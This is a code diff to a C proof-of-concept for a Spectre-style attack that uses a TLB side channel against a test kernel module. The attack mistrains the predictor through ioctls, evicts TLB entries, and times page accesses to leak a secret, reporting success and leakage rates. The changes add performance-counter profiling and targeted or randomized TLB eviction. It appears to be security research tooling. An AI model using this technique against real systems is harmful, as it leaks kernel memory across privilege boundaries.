@@ -18,6 +18,7 @@
 
 #include "libtlb.h"
 #include "cacheutils.h"
+#include "performance-counter.h"
 #include "module/kernel_spectre.h"
 
 #define COLOR_RED     "\x1b[31m"
@@ -35,6 +36,7 @@
 
 #define CORE1 3
 #define HISTOGRAM_SCALE 5
+#define SAMPLE_PERIOD 10000
 
 #define TRIES 100
 
@@ -53,6 +55,27 @@ size_t results[SECRET_LENGTH][NUMBER_OF_LETTERS];
 
 size_t kernel_address = 0;
 
+#if WITH_KERNEL_COUNTERS == 1
+static performance_counter_group_t ioctl_counter_group;
+static performance_counter_group_values_t ioctl_counter_sum;
+static size_t ioctl_counter_calls = 0;
+#endif
+
+static void access_offset(int fd, size_t offset)
+{
+#if WITH_KERNEL_COUNTERS == 1
+  performance_counter_group_values_t diff;
+  performance_counter_group_ioctl(&ioctl_counter_group, fd, KERNEL_SPECTRE_IOCTL_CMD_ACCESS, offset, &diff);
+
+  for (size_t i = 0; i < ioctl_counter_group.n; i++) {
+    ioctl_counter_sum.values[i] += diff.values[i];
+  }
+  ioctl_counter_calls++;
+#else
+  ioctl(fd, KERNEL_SPECTRE_IOCTL_CMD_ACCESS, offset);
+#endif
+}
+
 static uint64_t get_monotonic_time(void)
 {
   struct timespec t1;
@@ -85,11 +108,16 @@ size_t measure(size_t address) {
 
 #define LENGTH(x) (sizeof(x)/sizeof((x)[0]))
 
+#define PHASE(x) if (profile == true) { performance_sampler_mark(&sampler, (x)); }
+
 static void
 print_help(char* argv[]) {
   fprintf(stdout, "Usage: %s [OPTIONS]\n", argv[0]);
   fprintf(stdout, "\t-c, -core <value>\t Bind to cpu (default: " STR(CORE1) ")\n");
   fprintf(stdout, "\t-t, -thread <value>\t Bind access thread to cpu (default: " STR(CORE2) ")\n");
+  fprintf(stdout, "\t-p, -profile\t\t Sample where the cycles of each try go\n");
+  fprintf(stdout, "\t-e, -evict-targeted\t Evict only the probed pages instead of the whole TLB\n");
+  fprintf(stdout, "\t-r, -random\t\t Evict in a randomized order (seed: $" TLB_SEED_ENV ")\n");
   fprintf(stdout, "\t-h, -help\t\t Help page\n");
 }
 
@@ -197,11 +225,16 @@ int main(int argc, char* argv[])
   size_t cpu = CORE1;
   bool verbose = false;
   bool store_files = false;
+  bool profile = false;
+  bool evict_targeted = false;
 
-  static const char* short_options = "c:vsh";
+  static const char* short_options = "c:vsperh";
   static struct option long_options[] = {
     {"cpu",             required_argument, NULL, 'c'},
     {"store",           no_argument,       NULL, 's'},
+    {"profile",         no_argument,       NULL, 'p'},
+    {"evict-targeted",  no_argument,       NULL, 'e'},
+    {"random",          no_argument,       NULL, 'r'},
     {"help",            no_argument,       NULL, 'h'},
     {"verbose",         no_argument,       NULL, 'v'},
     { NULL,             0, NULL, 0}
@@ -228,6 +261,15 @@ int main(int argc, char* argv[])
       case 's':
         store_files = true;
         break;
+      case 'p':
+        profile = true;
+        break;
+      case 'e':
+        evict_targeted = true;
+        break;
+      case 'r':
+        tlb_eviction_mode = TLB_EVICTION_RANDOM;
+        break;
       case ':':
         fprintf(stderr, "Error: option `-%c' requires an argument\n", optopt);
         break;
@@ -240,6 +282,19 @@ int main(int argc, char* argv[])
 
   /* Setup */
   tlb_init();
+
+  if (tlb_eviction_mode == TLB_EVICTION_RANDOM) {
+    fprintf(stderr, "Seed: 0x%lx (reproduce with " TLB_SEED_ENV "=0x%lx)\n", tlb_seed, tlb_seed);
+  }
+
+  if (verbose == true) {
+    tlb_flush_stats_t stats;
+    if (tlb_flush_measure(100, &stats) == true) {
+      fprintf(stderr, "TLB flush (%s): %zu cycles, reload: %zu cycles (hit: %zu cycles)\n",
+          tlb_eviction_mode == TLB_EVICTION_RANDOM ? "random" : "sequential",
+          (size_t) stats.flush, (size_t) stats.reload, (size_t) stats.hit);
+    }
+  }
   memset(results, 0, SECRET_LENGTH * NUMBER_OF_LETTERS * sizeof(size_t));
 
   /* Open kernel module */
@@ -257,6 +312,49 @@ int main(int argc, char* argv[])
   /* Pin to core */
   pin_thread_to_core(pthread_self(), cpu);
 
+#if WITH_KERNEL_COUNTERS == 1
+  /* Setup user/kernel split counters for the ioctls */
+  ioctl_counter_group = performance_counter_group_init(getpid());
+  performance_counter_group_add_event_split(&ioctl_counter_group, "ls_tablewalker.dside");
+  performance_counter_group_add_event_split(&ioctl_counter_group, "ls_l1_d_tlb_miss.all");
+  if (ioctl_counter_group.n == 0) {
+    fprintf(stderr, "Error: Could not setup kernel counters, check /proc/sys/kernel/perf_event_paranoid\n");
+    return -1;
+  }
+
+  performance_counter_group_enable(&ioctl_counter_group);
+  performance_counter_group_reset(&ioctl_counter_group);
+#endif
+
+  /* Setup sampling profiler */
+  performance_sampler_t sampler;
+  size_t phase_idle = 0, phase_mistrain = 0, phase_flush = 0, phase_access = 0, phase_measure = 0;
+  if (profile == true) {
+    /* The mistrain and ioctl phases run in the kernel */
+    if (performance_sampler_init(&sampler, 0, PERF_TYPE_HARDWARE, PERF_COUNT_HW_CPU_CYCLES, SAMPLE_PERIOD,
+          PERFORMANCE_COUNTER_PRIVILEGE_ALL) == false &&
+        performance_sampler_init(&sampler, 0, PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK, SAMPLE_PERIOD,
+          PERFORMANCE_COUNTER_PRIVILEGE_ALL) == false) {
+      fprintf(stderr, "Error: Could not initialize sampling profiler\n");
+      return -1;
+    }
+
+    phase_idle = performance_sampler_add_phase(&sampler, "idle");
+    phase_mistrain = performance_sampler_add_phase(&sampler, "mistrain");
+    phase_flush = performance_sampler_add_phase(&sampler, "tlb_flush");
+    phase_access = performance_sampler_add_phase(&sampler, "ioctl");
+    phase_measure = performance_sampler_add_phase(&sampler, "measure");
+    performance_sampler_enable(&sampler);
+  }
+
+  /* Pages whose translations are evicted before every try */
+  size_t eviction_targets[NUMBER_OF_LETTERS + 1];
+  size_t number_of_eviction_targets = 0;
+  eviction_targets[number_of_eviction_targets++] = kernel_address + 4096 * -5;
+  for (size_t letter = FIRST_LETTER; letter <= LAST_LETTER; letter++) {
+    eviction_targets[number_of_eviction_targets++] = kernel_address + 4096 * letter;
+  }
+
   /* Statistics */
   size_t number_of_bytes = 0;
   size_t number_of_correct_bytes = 0;
@@ -275,24 +373,33 @@ int main(int argc, char* argv[])
     size_t global_min = -1;
 
     for (size_t try = 0; try < TRIES; try++) {
+      PHASE(phase_idle);
       for (volatile int u = 0; u < 100; u++) {
         asm volatile ("nop");
       }
 
       /* Mistrain */
+      PHASE(phase_mistrain);
       for (size_t i = 0; i < 10; i++) {
-        ioctl(kernel_spectre_fd, KERNEL_SPECTRE_IOCTL_CMD_ACCESS, 0);
+        access_offset(kernel_spectre_fd, 0);
       }
 
       /* Prepare */
-      tlb_flush();
+      PHASE(phase_flush);
+      if (evict_targeted == true) {
+        tlb_evict_addresses(eviction_targets, number_of_eviction_targets);
+      } else {
+        tlb_flush();
+      }
       asm volatile("lfence\n");
 
       /* Out of bounds access */
-      ioctl(kernel_spectre_fd, KERNEL_SPECTRE_IOCTL_CMD_ACCESS, offset);
+      PHASE(phase_access);
+      access_offset(kernel_spectre_fd, offset);
       asm volatile("lfence\n");
 
       /* Hacky Whacky */
+      PHASE(phase_measure);
       measure(kernel_address + 4096 * -5);
       asm volatile("lfence\n");
 
@@ -307,6 +414,11 @@ int main(int argc, char* argv[])
 
         measurements[letter][try] = measurement;
       }
+
+      if (profile == true) {
+        PHASE(phase_idle);
+        performance_sampler_consume(&sampler);
+      }
     }
 
     if (verbose) {
@@ -425,6 +537,14 @@ int main(int argc, char* argv[])
   fprintf(stderr, "Success Rate: %.2f%%\n", success_rate);
   fprintf(stderr, "Leakage Rate: %.2f B/s\n", leakage_rate);
 
+#if WITH_KERNEL_COUNTERS == 1
+  for (size_t i = 0; i < ioctl_counter_group.n && ioctl_counter_calls > 0; i++) {
+    fprintf(stderr, "%s: %.2f per ioctl (%s)\n", ioctl_counter_group.counter[i].name,
+        (float) ioctl_counter_sum.values[i] / ioctl_counter_calls,
+        performance_counter_privilege_name(ioctl_counter_group.counter[i].privilege));
+  }
+#endif
+
   /* Store results */
   if (store_files == true) {
     FILE* f = fopen("result.csv", "w");
@@ -450,6 +570,12 @@ int main(int argc, char* argv[])
     fclose(f);
   }
 
+  if (profile == true) {
+    performance_sampler_disable(&sampler);
+    performance_sampler_report(&sampler, stderr);
+    performance_sampler_cleanup(&sampler);
+  }
+
   /* Clean-up */
   close(kernel_spectre_fd);
 